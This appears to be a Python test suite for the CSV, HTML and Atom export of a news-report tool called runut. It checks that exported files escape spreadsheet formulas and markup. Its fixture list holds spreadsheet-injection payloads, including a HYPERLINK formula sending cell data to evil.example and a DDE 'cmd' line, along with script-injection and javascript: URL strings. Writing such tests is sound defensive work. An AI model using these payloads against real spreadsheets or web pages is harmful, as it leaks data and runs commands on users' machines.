#!/usr/bin/env python3
"""`runut export` as a table, a page and a feed: the values are those of the JSON, and nothing in a report is taken for markup or
for a formula."""
import csv
import html
import html.parser
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

from tap import ROOT, RUNUT, Skip, equal, full_disk_is_no_success, holds, main, runut

ATOM = "{http://www.w3.org/2005/Atom}"
SIGNS = "=+-@\t\r＝＋－＠"
TEXT = "Warga mengungsi ke balai desa pada Senin pagi, kata kepala desa, dan bantuan datang dari kota pada sore harinya."
HEADLINES = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1", "＝1+1", '"=1+1"',
             "'=1+1", "''-1", " -5 derajat", "'Kutipan' dalam judul", "Biasa, dengan \"tanda\"", "Banjir = bencana", "<script>alert(1)</script>",
             "</style></head><body onload=alert(1)>", "&lt;b&gt; ]]> <!--", "\u202etxt.exe \x1b[2J\x9b", "a\nb", "“Ya”, kata \\ dan ;"]


def store(folder, *paths):
    equal(runut("--db", folder / "s.db", "add", "-q", *paths).status, 0)
    return folder / "s.db"


def samples(folder):
    return store(folder, ROOT / "samples/captures")


def hostile(folder):
    lines = [{"id": f"{h}#{i}", "headline": h, "publisher": h, "author": [h, "Budi"], "url": "javascript:alert(1)//" + h, "articleBody": f'{h} {i}. "Kami datang," kata {h} Budi Santoso. {TEXT}'}
             for i, h in enumerate(HEADLINES)]
    (folder / "h.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return store(folder, folder / "h.jsonl")


def export(db, *words, env=None):
    result = runut("--db", db, "export", *words, env=env)
    equal((result.status, result.err), (0, ""))
    return result.out


def articles(db, *words):
    return [json.loads(line) for line in export(db, *words).split("\n") if line]


def rows(db, *words):
    return list(csv.DictReader(io.StringIO(export(db, "--format", "csv", *words), newline=""), strict=True))


def entries(db, *words):
    return ET.fromstring(export(db, "--format", "atom", *words).encode()).findall(ATOM + "entry")


# ---- csv ----

def is_formula(text):
    """As docs/export.md has it."""
    rest = re.sub("^[^\\S\t\r]*(?:[\"'\x00-\x08\n\x0b\x0c\x0e-\x1f\ufeff\u200b-\u200f]|[^\\S\t\r])*", "", text)
    return rest[:1] != "" and rest[0] in SIGNS


def unguarded(cell):
    return cell[1:] if cell[:1] == "'" and is_formula(cell[1:]) else cell


def joined(values):
    return "; ".join(values)


def in_cells(a):
    reuse = a["reuse"] or {}
    say = [f"[{q['start']}-{q['end']}] {q['speaker'] + ': ' if q['speaker'] else ''}{q['text']}" for q in a["quotes"]]
    differ = [f"[{d['start']}-{d['end']}] {d['about']}: {d['value']} / {d['otherValue']} ({d['withArticle']})" for d in a["disagreements"]]
    one = {k: a[k] or "" for k in ("article", "id", "file", "url", "inLanguage", "kind", "headline", "abstract", "publisher", "datePublished", "dateInferred",
                                   "event", "eventDate", "story", "articleBody")}
    return {**one, "author": joined(a["author"]), "sources": joined(a["sources"]), "people": joined(p["name"] for p in a["people"]),
            "organizations": joined(p["name"] for p in a["organizations"]), "places": joined(p["name"] for p in a["places"]),
            "quotes": "\n".join(say), "disagreements": "\n".join(differ), "reuseOf": reuse.get("ofArticle", ""), "reuseKind": reuse.get("kind", "")}


def a_table_has_the_values_of_the_json(folder):
    for db in (samples(folder), hostile(folder)):
        table, wanted = rows(db), articles(db)
        equal(len(table), len(wanted))
        for row, a in zip(table, wanted):
            for key, value in in_cells(a).items():
                equal((a["article"], key, unguarded(row[key])), (a["article"], key, value))
            equal(float(row["dateConfidence"] or 0), a["dateConfidence"] or 0)
    assert any(row["disagreements"] for row in table) and any(row["reuseKind"] for row in table) and any(row["quotes"] for row in table)


def no_cell_is_a_formula(folder):
    table = rows(hostile(folder))
    equal([row["headline"] for row in table][:4], ["'=1+1", "'+1+1", "'-1+1", "'@SUM(1,1)"])
    guarded = 0
    for row in table:
        for key, cell in row.items():
            assert not is_formula(cell) or cell[0] == "'", (key, cell)
            guarded += cell[:1] == "'"
    assert guarded > 40, guarded


def plain_text_stays_plain(folder):
    headlines = [row["headline"] for row in rows(hostile(folder))]
    for plain in ("'Kutipan' dalam judul", "Biasa, dengan \"tanda\"", "Banjir = bencana"):
        assert plain in headlines, headlines


def lines_end_as_rfc_4180_says(folder):
    done = subprocess.run([RUNUT, "--db", samples(folder), "export", "--format", "csv", "--limit", "1"], capture_output=True, check=True).stdout
    head, _, rest = done.partition(b"\r\n")
    equal(head.split(b",")[:3], [b"article", b"id", b"file"])
    assert rest.endswith(b"\r\n") and not done.startswith(b"\xef\xbb\xbf")


def a_table_comes_back(folder):
    db = samples(folder)
    (folder / "t.csv").write_text(export(db, "--format", "csv"), encoding="utf-8", newline="")
    back = folder / "back.db"
    equal(runut("--db", back, "add", "-q", folder / "t.csv").status, 0)
    equal(sorted((a["headline"], a["articleBody"]) for a in articles(back)), sorted((a["headline"], a["articleBody"]) for a in articles(db)))


# ---- html ----

class Page(html.parser.HTMLParser):
    """Elements, attributes and texts; which anchors are there and which are asked for."""

    def __init__(self, text):
        super().__init__()
        self.open, self.names, self.texts, self.ids, self.links = [], set(), [], set(), []
        self.feed(text)
        equal(self.open, [])

    def handle_starttag(self, tag, attributes):
        self.names.add(tag)
        for name, value in attributes:
            assert name in ("lang", "charset", "http-equiv", "content", "name", "dir", "class", "id", "href", "rel"), (tag, name)
            if name == "id":
                assert value not in self.ids, value
                self.ids.add(value)
            if name == "href":
                self.links.append(value)
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag):
        equal(self.open.pop(), tag)

    def handle_data(self, data):
        if self.open[-1:] != ["style"]:
            self.texts.append(data)


def page(db, *words, env=None):
    return Page(export(db, "--format", "html", *words, env=env))


def a_page_has_every_report_and_its_statements(folder):
    db = samples(folder)
    got, text = page(db), None
    text = " ".join(got.texts)
    for a in articles(db):
        assert a["article"] in got.ids and a["event"] in got.ids and a["story"] in got.ids, a["article"]
        for part in [a["headline"], a["publisher"] or a["article"], *a["author"], *a["sources"], *(q["text"] for q in a["quotes"])]:
            holds(text, part)
    inner = [link[1:] for link in got.links if link.startswith("#")]
    assert len(inner) > 20 and not set(inner) - got.ids, set(inner) - got.ids


def anchors_stand_where_the_words_are(folder):
    db = samples(folder)
    whole = export(db, "--format", "html")
    for a in articles(db):
        for q in a["quotes"]:
            _, _, rest = whole.partition(f'<a id="{a["article"]}-{q["start"]}"></a>')
            shown = re.sub("<[^>]*>", "", rest)
            first = re.findall(r"\w+", q["text"])[0]
            assert re.search(r"\w+", html.unescape(shown))[0] == first, (a["article"], q["text"], rest[:80])


def hostile_words_stay_words(folder):
    db = hostile(folder)
    text = export(db, "--format", "html")
    got = Page(text)
    equal(got.names - {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "section", "article", "a", "blockquote", "span", "details", "summary", "ul",
                       "li", "strong"}, set())
    holds("".join(got.texts), "<script>alert(1)</script>")
    equal([link for link in got.links if not link.startswith("#")], [])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def a_page_asks_for_nothing(folder):
    text = export(samples(folder), "--format", "html")
    holds(text, "default-src 'none'; style-src 'unsafe-inline'")
    assert not re.search(r"(?i)<(script|img|link|iframe|object|embed|form|base)|url\(|@import|\ssrc=|\son\w+=", text)


def a_page_is_in_the_readers_language(folder):
    db = samples(folder)
    for env, title in (({"LC_ALL": "", "LC_MESSAGES": "", "LANG": "id_ID.UTF-8"}, "Cerita dan beritanya"), ({"LC_ALL": "C", "LANG": "id_ID.UTF-8"}, "Stories and their reports"),
                       ({"LC_ALL": "", "LC_MESSAGES": "id", "LANG": "en_US"}, "Cerita dan beritanya")):
        holds(" ".join(page(db, env=env).texts), title)


def a_disagreement_stands_once(folder):
    text = " ".join(page(samples(folder), env={"LC_ALL": "C"}).texts)
    equal(len(re.findall("spectators: ", text)), 1)


# ---- atom ----

def a_feed_has_every_article_newest_first(folder):
    db = samples(folder)
    got, wanted = entries(db), articles(db)[::-1]
    equal([e.find(ATOM + "title").text for e in got], [a["headline"] for a in wanted])
    equal([e.find(ATOM + "content").text for e in got], [a["articleBody"] for a in wanted])
    equal(len({e.find(ATOM + "id").text for e in got}), len(got))
    for e in got:
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", e.find(ATOM + "updated").text)


def a_feed_comes_back(folder):
    db = samples(folder)
    (folder / "f.atom").write_text(export(db, "--format", "atom"), encoding="utf-8")
    back = folder / "back.db"
    equal(runut("--db", back, "add", "-q", folder / "f.atom").status, 0)
    keys = ("headline", "articleBody", "url", "publisher", "inLanguage")
    wanted = [{**a, "publisher": a["publisher"] or "runut"} for a in articles(db)]  # the feed's title, where an entry names no outlet
    equal(sorted(str([a[k] for k in keys]) for a in articles(back)), sorted(str([a[k] for k in keys]) for a in wanted))


def the_ids_of_entries_never_change(folder):
    (folder / "one").mkdir()
    (folder / "two").mkdir()
    one = {e.find(ATOM + "id").text for e in entries(samples(folder / "one"))}
    two = store(folder / "two", *sorted((ROOT / "samples/captures").glob("*"), reverse=True))
    equal({e.find(ATOM + "id").text for e in entries(two)}, one)


def a_feed_of_hostile_words_is_xml(folder):
    db = hostile(folder)
    equal(len(entries(db)), len(HEADLINES))
    if not shutil.which("xmllint"):
        raise Skip("no xmllint here")
    (folder / "f.atom").write_text(export(db, "--format", "atom"), encoding="utf-8")
    subprocess.run(["xmllint", "--noout", folder / "f.atom"], check=True)


# ---- all ----

def filters_hold_for_all(folder):
    db = samples(folder)
    for words in (["--since", "2024"], ["--lang", "en"], ["--publisher", "Reef Wire"], ["--limit", "3"], ["--lang", "en", "--limit", "2"], ["--person", "Komang"]):
        names = [a["article"] for a in articles(db, *words)]
        assert 0 < len(names) < 31, (words, names)
        equal([row["article"] for row in rows(db, *words)], names)
        reports = {i for i in page(db, *words).ids if re.fullmatch(r"a\d+", i)}
        if "--limit" not in words:
            equal((reports, len(entries(db, *words))), (set(names), len(names)))
        else:
            equal((len(reports), len(entries(db, *words))), (len(names), len(names)))


def an_empty_store_gives_an_empty_table_page_and_feed(folder):
    (folder / "x.txt").write_text("Judul\n\n" + TEXT, encoding="utf-8")
    db = store(folder, folder / "x.txt")
    equal((rows(db, "--lang", "zz"), entries(db, "--lang", "zz")), ([], []))
    page(db, "--lang", "zz")


def wrong_use_is_told(folder):
    db = samples(folder)
    equal(runut("--db", db, "export", "--format", "xls").status, 2)
    for form in ("csv", "html", "atom"):
        equal(runut("--db", db, "export", "--format", form, "--since", "kemarin").status, 2)
        equal(runut("--db", folder / "none.db", "export", "--format", form).status, 3)
    equal(export(db, "--format", "json"), export(db))


def a_full_disk_is_told(folder):
    for form in ("csv", "html", "atom"):
        full_disk_is_no_success("--db", str(samples(folder)), "export", "--format", form)


main([a_table_has_the_values_of_the_json, no_cell_is_a_formula, plain_text_stays_plain, lines_end_as_rfc_4180_says, a_table_comes_back,
      a_page_has_every_report_and_its_statements, anchors_stand_where_the_words_are, hostile_words_stay_words, a_page_asks_for_nothing,
      a_page_is_in_the_readers_language, a_disagreement_stands_once, a_feed_has_every_article_newest_first, a_feed_comes_back,
      the_ids_of_entries_never_change, a_feed_of_hostile_words_is_xml, filters_hold_for_all, an_empty_store_gives_an_empty_table_page_and_feed, wrong_use_is_told,
      a_full_disk_is_told])
